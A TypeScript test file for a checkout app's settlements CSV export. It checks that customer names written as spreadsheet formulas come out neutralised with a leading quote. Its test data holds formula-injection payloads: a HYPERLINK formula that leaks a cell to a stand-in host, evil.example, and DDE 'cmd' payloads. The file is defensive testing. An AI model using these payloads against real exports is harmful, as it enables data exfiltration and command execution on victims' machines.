/**
 * The extract's CSV opened in a spreadsheet: customer names typed at checkout that a spreadsheet would run as
 * formulas arrive neutralised, through the real checkout and the real export endpoint; the amounts stay numbers.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  apiKeyOf,
  createCheckout,
  customerData,
  field,
  fieldNames,
  freshShopper,
  PITANGA,
  payPix,
  put,
} from '../checkout-helpers.ts';
import { bearer, latestCode, loginMerchant, seededApp } from '../helpers.ts';
import { dayAt } from '../settlements-helpers.ts';

const NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
];

describe('the extract CSV and customer names that are formulas', () => {
  let t: Awaited<ReturnType<typeof seededApp>>;

  /** A shopper's whole checkout at Casa Pitanga, typing `name`, up to the approved order. */
  async function buyAs(apiKey: string, name: string, amount: number): Promise<void> {
    const shopper = freshShopper();
    const id = await createCheckout(t, apiKey, { amount, products: [{ name: 'Vaso', quantity: 1, amount }] });
    const sent = await put(t, id, customerData(shopper.cpf, shopper.phone, { customerName: name }));
    expect(sent.status, sent.text).toBe(200);
    const afterToken = await put(t, id, { phoneVerificationCode: await latestCode(t, shopper.phone) });
    const payment = field(afterToken, 'payment');
    if (payment) await payPix(t, payment.fieldData.paymentQrCodeText, shopper.cpf);
    let res = await put(t, id);
    for (let i = 0; i < 20 && !fieldNames(res).includes('checkoutConfirmation'); i++) {
      await t.built.services.checkouts.runPendingAnalysis(id).catch(() => undefined);
      res = await put(t, id);
    }
    const ok = await put(t, id, { checkoutConfirmed: true });
    expect(ok.body.result, ok.text).toBe('OK');
  }

  beforeAll(async () => {
    t = await seededApp();
    t.clock.set(new Date('2027-03-10T13:00:00Z'));
    const apiKey = await apiKeyOf(t, PITANGA);
    for (const [i, name] of NAMES.entries()) await buyAs(apiKey, name, 100 + i);
    await dayAt(t, '2027-03-10');
  });
  afterAll(async () => {
    await t.dispose();
  });

  it('every formula arrives as text with a leading single quote; amounts stay numbers', async () => {
    const { token } = await loginMerchant(t, 'admin@pitanga.demo', '+5521987651234');
    const res = await t.request(
      'GET',
      '/merchant_backoffice/api/v1/settlements/export-csv?month=3&year=2027',
      undefined,
      bearer(token),
    );
    expect(res.status, res.text).toBe(200);
    const rows: string[][] = parse(res.text.replace(/^\uFEFF/, ''), { delimiter: ';' });
    const header = rows[0] ?? [];
    const name = header.indexOf('Cliente');
    const amount = header.indexOf('Valor');
    const sales = rows.slice(1).filter((r) => r[1] === 'Venda');
    expect(sales.map((r) => r[name]).sort()).toEqual(NAMES.map((n) => `'${n}`).sort());
    // No cell a spreadsheet would run, in any column.
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+@\t\r]/);
    expect(sales.map((r) => r[amount]).sort()).toEqual(['100,00', '101,00', '102,00', '103,00']);
  });
});
